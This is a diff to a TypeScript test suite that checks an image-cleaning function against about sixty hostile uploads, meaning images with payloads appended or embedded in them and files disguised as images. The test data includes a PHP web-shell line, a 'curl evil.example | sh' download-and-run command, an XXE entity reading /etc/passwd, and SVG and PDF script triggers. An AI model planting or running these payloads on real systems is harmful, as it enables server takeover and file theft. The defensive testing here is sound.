@@ -42,6 +42,56 @@ function crc32(bytes: Buffer): number {
   return (crc ^ 0xffffffff) >>> 0;
 }
 
+/** What is hidden in a picture, or sent in its place. */
+const BEHIND = (
+  [
+    ["a page", "<!doctype html><html><script>ran=1</script></html>"],
+    ["an SVG", '<svg xmlns="http://www.w3.org/2000/svg" onload="ran=1"/>'],
+    ["a ZIP", "PK\x03\x04 hidden.exe"],
+    ["PHP", "<?php system($_GET['c']); ?>"],
+    ["a PDF", "%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript >> >>"],
+    ["a program", "MZ\x90\x00 This program cannot be run in DOS mode"],
+    ["a shell script", "#!/bin/sh\ncurl evil.example | sh"],
+    ["XML with an entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
+  ] as const
+).map(([what, text]) => [what, Buffer.from(text, "latin1")] as const);
+
+/** Pictures with something more in them, files that say they are pictures, and pictures of other kinds or broken. */
+async function hostilePictures(): Promise<Buffer[]> {
+  const png = await plain().png().toBuffer();
+  const jpeg = await plain().jpeg().toBuffer();
+  const comment = (text: Buffer) => {
+    const head = Buffer.from([0xff, 0xfe, 0, 0]);
+    head.writeUInt16BE(text.length + 2, 2);
+    return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)]);
+  };
+  const others = await Promise.all([
+    ...[plain().gif(), plain().webp(), plain().tiff(), plain().avif()].map((one) => one.toBuffer()),
+    plain().raw().toBuffer(),
+  ]);
+  return [
+    ...BEHIND.flatMap(([, text]) => [
+      text,
+      Buffer.concat([png, text]),
+      Buffer.concat([jpeg, text]),
+      comment(text),
+      Buffer.concat([png.subarray(0, 8), text]),
+      Buffer.concat([jpeg.subarray(0, 4), text]),
+      Buffer.concat([Buffer.from("GIF89a"), text]),
+    ]),
+    ...[png, jpeg].flatMap((one) => [
+      one.subarray(0, 20),
+      Buffer.concat([Buffer.from(" "), one]),
+      Buffer.from(one.toString("latin1"), "utf8"),
+      Buffer.from(one.toString("base64")),
+    ]),
+    ...others,
+    enormousPng(),
+    Buffer.alloc(0),
+    Buffer.alloc(4_096),
+  ];
+}
+
 describe("a picture that was sent", () => {
   it.each(["png", "jpeg"] as const)("is taken as %s, and made anew", async (format) => {
     const sent = await plain().toFormat(format).toBuffer();
@@ -78,6 +128,27 @@ describe("a picture that was sent", () => {
   it("is made smaller where it is larger than anybody needs", async () => {
     const kept = await cleanImage(await plain(4_000, 1_000).png().toBuffer());
     expect(await sharp(kept?.bytes).metadata()).toMatchObject({ width: 2_000, height: 500 });
+  });
+
+  it("is refused, or nothing but its pixels is kept, in whichever of sixty ways it is hostile", async () => {
+    const hostile = await hostilePictures();
+    expect(new Set(hostile.map((one) => one.toString("base64"))).size).toBeGreaterThanOrEqual(60);
+    const came = { refused: 0, madeAnew: 0 };
+    for (const sent of hostile) {
+      const kept = await cleanImage(sent);
+      came[kept ? "madeAnew" : "refused"]++;
+      if (!kept) continue;
+      const { format, width, height } = await sharp(kept.bytes).metadata();
+      expect({ contentType: kept.contentType, width, height }).toEqual({
+        contentType: `image/${format}`,
+        width: 40,
+        height: 20,
+      });
+      for (const [, behind] of BEHIND) expect(kept.bytes.includes(behind)).toBe(false);
+    }
+    // Both happen: what is a picture with something more is kept without that.
+    expect(came.refused).toBeGreaterThan(30);
+    expect(came.madeAnew).toBeGreaterThan(10);
   });
 
   it.each<[string, Buffer | Promise<Buffer>]>([
